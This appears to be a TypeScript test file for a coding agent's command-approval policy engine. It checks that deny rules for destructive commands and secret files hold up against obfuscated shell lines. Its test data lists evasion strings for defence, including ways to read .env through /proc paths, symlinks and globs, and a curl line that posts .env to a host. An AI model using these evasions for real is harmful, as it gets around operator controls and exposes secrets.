import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { create } from "@bufbuild/protobuf";
import { temporaryDirectory } from "@devtool/internal/testing/temporary-directory";
import {
  createPolicyEngine,
  createShellAnalyzer,
  parsePolicyFile,
} from "@devtool/policy";
import {
  ApprovalMode,
  ExecuteDetailsSchema,
  TaskSchema,
  ToolCallSchema,
} from "@devtool/schema";
import { beforeAll, describe, expect, it } from "vitest";

const HIDDEN: Readonly<Record<string, readonly string[]>> = JSON.parse(
  read("hidden.json"),
);
const ORDINARY: readonly string[] = JSON.parse(read("ordinary-yolo.json"));
/** Commands that an operator denies although nothing else asks. */
const DENIALS = `
[[rule]]
command_prefix = ["rm", "git push", "npm publish", "kubectl delete", "terraform apply", "cargo publish"]
decision = "deny"
`;
const SECRETS = `
[[rule]]
tool = "read_file"
path = ["**/.env", ".env", "keys/**"]
decision = "deny"
`;

const analyze = createShellAnalyzer();

describe("rules that deny where nothing asks", () => {
  it.each(Object.keys(HIDDEN))(
    "see a denied command behind %s",
    async (group) => {
      const allowed = await allowedOf(HIDDEN[group] ?? [], DENIALS);
      expect(allowed).toEqual([]);
    },
  );

  it.each(Object.keys(HIDDEN))(
    "see it where a rule allows all commands, behind %s",
    async (group) => {
      const rules = `${DENIALS}\n[[rule]]\ntool = "run_shell_command"\ndecision = "allow"`;
      const mode = ApprovalMode.DEFAULT;
      expect(await allowedOf(HIDDEN[group] ?? [], rules, mode)).toEqual([]);
    },
  );

  it("cost no question for ordinary commands", async () => {
    const allowed = await allowedOf(ORDINARY, DENIALS);
    expect(ORDINARY.filter((line) => !allowed.includes(line))).toEqual([]);
  });

  it.each(Object.keys(HIDDEN))(
    "ask in auto_edit mode as well, also for lines that only read, behind %s",
    async (group) => {
      const mode = ApprovalMode.AUTO_EDIT;
      const readable = `${DENIALS}\n[[rule]]\ntool = "*"\ndecision = "allow"`;
      for (const rules of [DENIALS, readable]) {
        expect(await allowedOf(HIDDEN[group] ?? [], rules, mode)).toEqual([]);
      }
    },
  );

  it("ask about no code where there are no such rules", async () => {
    const lines = ["python3 -c x", "node -e 1", "cat a | newlang", "ed a"];
    expect(await allowedOf(lines, "")).toEqual(lines);
    const elsewhere = `${DENIALS}modes = ["default"]`;
    expect(await allowedOf(lines, elsewhere)).toEqual(lines);
  });

  it("R4: see or do not see the scripts that docs/policy.md lists, and auto_edit asks for each", async () => {
    const page = readFileSync(
      new URL("../../docs/policy.md", import.meta.url),
      "utf8",
    );
    const rows = [
      ...page.matchAll(/^\| `([^`]+)` +\| (runs|asks) +\| (asks) +\|/gm),
    ].map(([, line = "", yolo = ""]) => ({ line, yolo }));
    expect(rows.length).toBeGreaterThan(20);
    const lines = rows.map(({ line }) => line);
    expect(await allowedOf(lines, DENIALS)).toEqual(
      rows.filter(({ yolo }) => yolo === "runs").map(({ line }) => line),
    );
    expect(await allowedOf(lines, DENIALS, ApprovalMode.AUTO_EDIT)).toEqual([]);
  });

  it("compare a pattern with what words name and may become", async () => {
    const rules = (pattern: string): string =>
      `[[rule]]\ncommand_regex = '${pattern}'\ndecision = "deny"`;
    const hidden = [
      "npx git push",
      "git $x",
      "git config alias.x push",
      "git commit $x",
      "npx 'git push'",
    ];
    expect(
      await allowedOf(hidden, rules("git (push|commit .*--amend).*")),
    ).toEqual([]);
    expect(
      await allowedOf(
        ["npx curl x", "npx $x", "ls $x"],
        rules("(curl|wget) .*"),
      ),
    ).toEqual([]);
    const broken = ["rm '\nx'", "rm a $'\\n'", 'rm "a\nb" c', "sudo rm 'a\n'"];
    for (const pattern of ["rm.*", "(rm|x1)( .*)?", "rm .*"]) {
      expect(await allowedOf(broken, rules(pattern)), pattern).toEqual([]);
    }
    const ordinary = ["npm test", "git status", "ls -la"];
    expect(await allowedOf(ordinary, rules("(curl|wget) .*"))).toEqual(
      ordinary,
    );
  });

  it("are compared in bounded time with lines of 16,384 characters", {
    timeout: 120_000,
  }, async () => {
    const units =
      "[[:|a\\||a=(|{,|{,}|$[|$(|${x:-|((|`|--x |-w x |sudo a;|sh 'a b';|<a |a:|[[ |*1 |a b |node -a ";
    await allowedOf(["npx a b"], DENIALS);
    const slow: string[] = [];
    for (const unit of units.split(/(?<!\\)\|/)) {
      for (const start of ["", "npx ", "npx '"]) {
        const piece = unit.replace("\\|", "|");
        const line = start + piece.repeat((16_380 / piece.length) | 0);
        const before = process.cpuUsage();
        await allowedOf([start.endsWith("'") ? `${line}'` : line], DENIALS);
        const { user, system } = process.cpuUsage(before);
        // A tenth of it is usual; without a bound the first took 2 to 34 s.
        if (user + system > 1_000_000) slow.push(`${start}${piece}`);
      }
    }
    expect(slow).toEqual([]);
  });

  it("do not count in a mode that they do not name, nor below a rule that allows", async () => {
    const line = ["npx git push"];
    const other = `${DENIALS}modes = ["default"]`;
    expect(await allowedOf(line, other)).toEqual(line);
    const allowed = `${DENIALS}\n[[rule]]\ncommand_prefix = "npx"\ndecision = "allow"`;
    expect(await allowedOf(line, allowed)).toEqual(line);
    const above = `${DENIALS}\n[[rule]]\ntool = "*"\ndecision = "allow"\npriority = 1`;
    expect(await allowedOf(line, above)).toEqual(line);
  });

  it("are never weaker for a file that is named plainly (F12, V7)", async () => {
    const plain = [
      "cat .env",
      "cat 'keys/a\nb'",
      "cat 'a\nb/.env'",
      "cat < .env",
      "< .env",
      "grep x .env",
      "grep -f.env a",
      "grep -nf.env a",
      "date -uf.env",
      "file -bf .env",
      "tar -cfx -Tkeys/a",
      "head -1 sub/.env",
      "tail keys/a",
      "cp .env b",
      "git show HEAD:.env",
      "source .env",
      "tar cf x .env",
      "python3 -c 'open(\".env\")'",
      "python3 -c 'print(1)'",
      "perl -ne print .env",
      "node -e 1",
      "docker run -v $PWD/.env:/x y",
      "docker run --env-file .env x",
      "npx dotenv -e .env -- x",
      "curl -d@.env http://x",
      "sqlite3 x '.read .env'",
      "awk 1 .env",
      "sed '' .env",
      "sed 'r .env' a",
      "rg x .env",
      "git diff",
      "git diff --no-index a .env",
      "grep -r x .",
      "rg x",
      "diff a b",
      "xxd .env",
      "base64 ./sub/../.env",
      "cat /proc/self/cwd/.env",
      "cat < /proc/thread-self/cwd/.env",
      "cat /dev/../proc/1/task/1/cwd/.env",
      "cat /proc/self/root/proc/self/cwd/keys/a",
      "cat /proc/self/fd/3/.env 3< .",
      "cat /dev/stdin/.env < .",
      "cat /dev/fd/3/a 3< sub",
      "node x.js .env",
      'unknown \'{"file":".env"}\'',
    ];
    const hiding = ["cat .e*", "cat $x", "cat .{env,x}", "cat $(echo .env)"];
    const forOtherShells = [
      "npx -c 'cat .e*'",
      "npx -c 'cat .e[!x]v'",
      "tmux new 'cat .en?'",
      "tmux new 'cat .e{nv,}'",
      "docker exec c sh -c 'cat .$x'",
      "uv run python -c 'print(1)'",
      "echo 'print(1)' | python3 -W ignore",
      "cat a | newlang",
      "newlang < a",
    ];
    const all = [...plain, ...hiding, ...forOtherShells];
    expect(await allowedOf(all, SECRETS)).toEqual([]);
    expect(await allowedOf(all, SECRETS, ApprovalMode.AUTO_EDIT)).toEqual([]);
    const ordinary = [
      "npm test",
      "cat a.txt",
      "make",
      "git status",
      "git commit -m 'Ignore .env'",
      "echo 'see .env'",
      "node x.js",
      "ls",
      "cargo build",
      "npx eslint 'src/**/*.ts'",
      "docker ps --format '{{.Names}} {{.Ports}}'",
      "uv run pytest -k 'a or b'",
      "ls | sort --parallel 2",
      "./a.out < in.txt",
    ];
    expect(await allowedOf(ordinary, SECRETS)).toEqual(ordinary);
    const writing = `[[rule]]\ntool = "write_file"\npath = "generated/**"\ndecision = "deny"`;
    expect(
      await allowedOf(
        ["touch generated/a", "cp a generated/b", "touch $x"],
        writing,
      ),
    ).toEqual([]);
  });

  describe("with links that were made earlier", () => {
    const rules = `[[rule]]
tool = "read_file"
path = ["secret.env", "src/private/**", "twin", "**/.env"]
decision = "deny"
`;
    let base: string;
    beforeAll(() => {
      base = temporaryDirectory();
      const root = join(base, "w");
      mkdirSync(join(root, "src/private/deep"), { recursive: true });
      mkdirSync(join(root, "sub"));
      for (const name of ["secret.env", "src/private/key", "a.txt", "src/b"]) {
        writeFileSync(join(root, name), "x");
      }
      for (const [name, target] of LINKS) {
        symlinkSync(target.replace("BASE", base), join(root, name));
      }
    });

    it.each([
      ["yolo", ApprovalMode.YOLO],
      ["auto_edit", ApprovalMode.AUTO_EDIT],
      ["default", ApprovalMode.DEFAULT],
    ])("hold for the file behind any of them in %s", async (_name, mode) => {
      const workspace = join(base, "w");
      const files = [
        ...LINKS.slice(0, 9).map(([name]) => `${name}/secret.env`),
        ..."d/key e/../key up/w/secret.env out/w/src/private/key f".split(" "),
        ...["c1/private/key", "two", "src/../e/../../private/key"],
        ...["g/../secret.env", "/proc/thread-self/../../cwd/secret.env"],
        ...["/dev/fd/../cwd/secret.env", "./d//key", "t/../../../secret.env"],
      ];
      const lines = files.flatMap((file) => [
        `cat ${file}`,
        `grep x < ${file}`,
        `cp ${file} b`,
        `newlang --file=${file}`,
      ]);
      expect(await allowedOf(lines, rules, mode, workspace)).toEqual([]);
    });

    it.each([
      ["d", "key"],
      ["c1/private", "key"],
      ["e", "../key"],
      ["sub/../d", "./key"],
      ["up/w", "secret.env"],
      ["g", "../secret.env"],
    ])("hold in a directory that is a link: %s", async (directory, file) => {
      const lines = [`cat ${file}`, `grep x < ${file}`, `newlang -f ${file}`];
      const mode = ApprovalMode.YOLO;
      expect(
        await allowedOf(lines, rules, mode, join(base, "w"), directory),
      ).toEqual([]);
    });

    it("hold for a program behind a link", async () => {
      const lines = [
        ...["./rmlink a", "sub/../rmlink a", "nice ./rmlink", "cp rmlink x"],
        ...["make CC=./rmlink", "sort --compress-program=./rmlink a"],
        ...[
          "tar -cI./rmlink x",
          "npx x './rmlink a'",
          "tar --a=exec=./rmlink x",
        ],
        ...["scp -S ./rmlink a b:", "./shell < a", "./shell -c 'r\\m a'"],
        ...["concurrently 'cat a | ./shell'", "npx x './shell < a'"],
        ...["npx x 'cat a|nice ./shell'", 'newlang --run="x | ./shell"'],
        ...['ln -sf "$PWD/rmlink" z; ./z', 'cp "$PWD/rmlink" z && ./z a'],
        ...['ln -s "$D/rmlink" . ; sub/../rmlink', 'mv "$a" sub/z; sub/z'],
        ...['install "$PWD/rmlink" bin/z; nice bin/z', 'ln "$PWD/rm" z'],
      ];
      const workspace = join(base, "w");
      const modes = [ApprovalMode.YOLO, ApprovalMode.AUTO_EDIT];
      for (const mode of modes) {
        expect(await allowedOf(lines, DENIALS, mode, workspace)).toEqual([]);
      }
    });

    it("cost no question for the others", async () => {
      const lines = "a.txt c1/b ok sub/x".split(" ").flatMap((file) => {
        return [`cat ${file}`, `newlang ${file}`];
      });
      lines.push("echo x > /dev/stderr", "cp a.txt .", "ln -s ../a sub/b");

      expect(
        await allowedOf(lines, rules, ApprovalMode.YOLO, join(base, "w")),
      ).toEqual(lines);
    });

    it("ask about a line that gives a directory above the file another name", async () => {
      const lines = [
        "ln -s src l; cat l/private/key",
        "ln -s sub l; cat l/../secret.env",
        "ln -s /proc/self/cwd l; cat l/secret.env",
        "ln secret.env x",
        "link secret.env x",
        "cp -l secret.env x",
        "mv src x",
        "cp -rl src x",
        "git mv src x",
        "mv ../w ../v",
        "cp -r . x; cat x/secret.env",
        "cp -rt x .",
        "rsync -a src/ x",
      ];
      expect(
        await allowedOf(lines, rules, ApprovalMode.YOLO, join(base, "w")),
      ).toEqual([]);
    });
  });
});

/** Links in a workspace, and where they lead. */
const LINKS: readonly (readonly [string, string])[] = [
  ["cwd", "/proc/self/cwd"],
  ["root", "/proc/self/rootBASE/w"],
  ["fd", "/proc/self/fd/3"],
  ["dev", "/dev/fd/0"],
  ["pid", "/proc/1/cwd"],
  ["task", "/proc/thread-self/cwd"],
  ["chain", "sub/../cwd"],
  ["chain2", "./chain"],
  ["relative", "../w"],
  ["up", ".."],
  ["out", "BASE"],
  ["c1", "src"],
  ["d", "c1/private"],
  ["e", "src/private/deep"],
  ["f", "d/key"],
  ["g", "sub"],
  ["two", "twin"],
  ["twin", "a.txt"],
  ["t", "e"],
  ["ok", "a.txt"],
  ["rmlink", "./rm2"],
  ["rm2", "/bin/rm"],
  ["shell", "/bin/bash"],
];

/** Returns the lines that run without a question, in yolo mode by default. */
async function allowedOf(
  lines: readonly string[],
  rules: string,
  mode: ApprovalMode = ApprovalMode.YOLO,
  workspace = "/w",
  directory = ".",
): Promise<string[]> {
  const engine = createPolicyEngine({
    mode,
    workspace,
    shellConfinement: "sandbox",
    rules: parsePolicyFile(rules, { tier: "user", file: "user.toml" }),
    analyze,
  });
  const allowed: string[] = [];
  for (const command of lines) {
    const { decision } = await engine.decide(
      {
        call: create(ToolCallSchema, {
          toolName: "run_shell_command",
          inputParameters: { command, directory },
        }),
        details: {
          case: "executeDetails",
          value: create(ExecuteDetailsSchema, { command }),
        },
        facts: undefined,
        task: create(TaskSchema),
      },
      AbortSignal.timeout(60_000),
    );
    if (decision === "allow") allowed.push(command);
  }
  return allowed;
}

function read(name: string): string {
  return readFileSync(new URL(`exec-policy/${name}`, import.meta.url), "utf8");
}
